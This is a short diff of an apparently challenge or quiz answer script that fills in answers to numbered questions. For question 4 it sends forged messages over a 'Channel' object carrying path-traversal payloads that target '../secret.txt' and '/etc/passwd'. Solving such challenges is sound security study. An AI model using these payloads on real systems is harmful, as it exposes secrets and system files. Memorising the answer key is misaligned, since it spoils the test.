@@ -1,12 +1,12 @@
 # %%
 q02_answer = "c"
 
-# %%
-import gc
+# %%< a_forged_call.py
 
-channel = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")
-for name in ("../secret.txt", "/etc/passwd", "00" * 32 + "/../../../secret.txt"):
-    q04_answer = str(channel.ask(name))
+# %%
+for path in ("../secret.txt", "/etc/passwd", "00" * 32 + "/../../../secret.txt"):
+    channel.send({"type": "order", "number": 1, "description": described(weights=[path])})
+    q04_answer = str(channel.receive())
 
 # %%
 q09_answer = "d"
